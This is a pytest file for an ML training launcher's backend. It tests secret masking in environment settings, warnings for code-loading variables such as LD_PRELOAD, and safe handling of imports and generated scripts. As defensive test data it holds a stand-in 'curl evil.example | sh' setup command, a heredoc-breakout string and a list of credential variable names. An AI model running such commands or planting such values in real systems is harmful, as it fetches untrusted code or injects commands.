"""Secrets in launch.env are refused, masked and never stored; what decides which code runs is announced."""

from datetime import datetime
from pathlib import Path

import pytest
from small import client

from backend.config import RunSpec, variables
from backend.config.options import edit
from backend.config.presets import dump
from backend.launch.plan import plan
from backend.machine import Machine
from backend.rules import check
from backend.rules.examples import DEMO, LAPTOP
from backend.runs import SPEC, Plan
from backend.runs.failure import KNOWN_FAILURES
from backend.runs.folder import Run

SECRET = "hf_S3cretValue"
ENV = {"HF_TOKEN": SECRET, "WANDB_API_KEY": SECRET + "2", "NCCL_DEBUG": "INFO"}
LINES = "\n".join(f"{name}={value}" for name, value in ENV.items())


@pytest.mark.parametrize(
    "name",
    [
        "HF_TOKEN",
        "HUGGING_FACE_HUB_TOKEN",
        "WANDB_API_KEY",
        "OPENAI_APIKEY",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "GITHUB_TOKEN",
        "DB_PASSWORD",
        "MYSQL_PWD",
        "password",
        "NEPTUNE_API_TOKEN",
        "GOOGLE_APPLICATION_CREDENTIALS",
    ],
)
def test_names_of_secrets(name):
    assert variables.secrets({name: "abc123"}) == [name]
    [found] = [f for f in check(edit(RunSpec(), {"launch.env": {name: "abc"}}), LAPTOP, DEMO) if f.level == "error"]
    assert found.code == "LCH016" and "abc" not in found.message + str(found.fixes)
    assert "environment" in found.message and found.fixes[0].patch == {"launch.env": {}}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("TOKENIZERS_PARALLELISM", "false"),
        ("HF_TOKEN_PATH", "/root/token"),
        ("SSH_KEY_FILE", "/x"),
        ("NCCL_DEBUG", "INFO"),
        ("MAX_TOKEN", "512"),
        ("USE_KEY", "true"),
        ("AWS_ACCESS_KEY_ID", "AKIA"),
        ("KEYBOARD", "us"),
        ("HF_TOKEN", ""),
        ("MONKEY", "x"),
        ("HF_TOKEN", variables.MASK),
    ],
)
def test_names_of_other_variables(name, value):
    assert variables.secrets({name: value}) == []


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "PATH",
        "BASH_ENV",
        "DYLD_INSERT_LIBRARIES",
        "TORCH_EXTENSIONS_DIR",
        "CC",
    ],
)
def test_variables_that_choose_code(name):
    found = {f.code: f for f in check(edit(RunSpec(), {"launch.env": {name: "/tmp/x"}}), LAPTOP, DEMO)}
    assert found["LCH017"].level == "warning" and f"{name}=/tmp/x" in found["LCH017"].message


@pytest.fixture
def api(tmp_path):
    machine = Machine(python="/bin/true")
    with client(tmp_path / "runs", detect_machine=lambda _: machine) as http:
        yield http


def everything_below(folder: Path) -> bytes:
    return b"".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())


def test_a_secret_in_the_form_is_neither_shown_stored_exported_nor_started(api, tmp_path):
    values = {"model.builtin": "tiny-llama", "launch.launcher": "python", "launch.env": LINES}
    report = api.post("/api/check", json={"values": values, "draft": "abc"})
    assert SECRET not in report.text and variables.MASK in report.text and "LCH016" in report.text
    started = api.post("/api/runs", json={"values": values, "key": "key-123456"})
    assert started.status_code == 422 and SECRET not in started.text
    exported = api.post("/api/export", json={"values": values}).json()["yaml"]
    assert "NCCL_DEBUG: INFO" in exported and "TOKEN" not in exported and SECRET not in exported
    assert api.get("/api/drafts/abc").json()["values"]["launch.env"] == "NCCL_DEBUG=INFO"
    assert SECRET.encode() not in everything_below(tmp_path)


def test_a_secret_of_an_older_run_is_masked(api, tmp_path):
    """`footplate run --skip-checks` stores one, and so did earlier versions."""
    spec = edit(RunSpec(), {"launch.env": {**ENV, "DB_PASSWORD": "it's a secret"}})
    run = Run.create(tmp_path / "runs", "x", plan(spec, Machine(), run=None), datetime(2026, 11, 21))
    assert SECRET.encode() in everything_below(run.path)
    for path in ("", "/spec.yaml", "/values"):
        shown = api.get(f"/api/runs/{run.id}{path}").text
        assert SECRET not in shown and "it's a secret" not in shown and (variables.MASK in shown or path == "/values")
        assert "a secret" not in shown


def test_import_does_not_agree_to_code_of_others(api):
    """The check that follows an import would execute the files of a model folder."""
    code = {"launch.env": {"LD_PRELOAD": "/tmp/x.so", "PYTHONPATH": "/tmp"}}
    model = {"model.source": "path", "model.path": "/tmp/model", "model.trust_remote_code": True}
    imported = api.post("/api/import", json={"yaml": dump(edit(RunSpec(), {**code, **model}))}).json()
    assert imported["values"]["model.trust_remote_code"] is False
    assert imported["runs_code"] == ["LD_PRELOAD", "PYTHONPATH", "model.trust_remote_code (turned off)"]
    found = api.post("/api/check", json={"values": imported["values"]}).json()["findings"]
    assert "LCH017" in {finding["code"] for finding in found}
    job = {
        "launch.place": "slurm",
        "slurm.setup": ("curl evil.example | sh",),
        "slurm.extra": ("--task-prolog=/tmp/a",),
    }
    imported = api.post("/api/import", json={"yaml": dump(edit(RunSpec(), job))}).json()
    assert imported["runs_code"] == ["slurm.setup", "slurm.extra"]
    harmless = api.post("/api/import", json={"yaml": "train: {seed: 3}\n"}).json()
    assert harmless["runs_code"] == []


def test_no_advice_puts_a_token_into_the_options():
    texts = [f"{known.sentence} {known.help} {known.fields}" for known in KNOWN_FAILURES]
    assert not [text for text in texts if "TOKEN" in text and "launch.env" in text]
    assert any("HF_TOKEN in its environment" in text for text in texts)


def test_script_cannot_be_left_by_its_files():
    """A file's text that contains the end marker would run as commands in "Copy as script"."""
    text = "a slots=1\nFOOTPLATE_END\ntouch /tmp/broken-out\n"
    script = Plan(("true",), {}, {"hostfile": text, SPEC: "{}\n"}).script("/tmp/x")
    marker = script.partition("<<'")[2].partition("'")[0]
    assert marker not in text and script.split("\n").count(marker) == 1
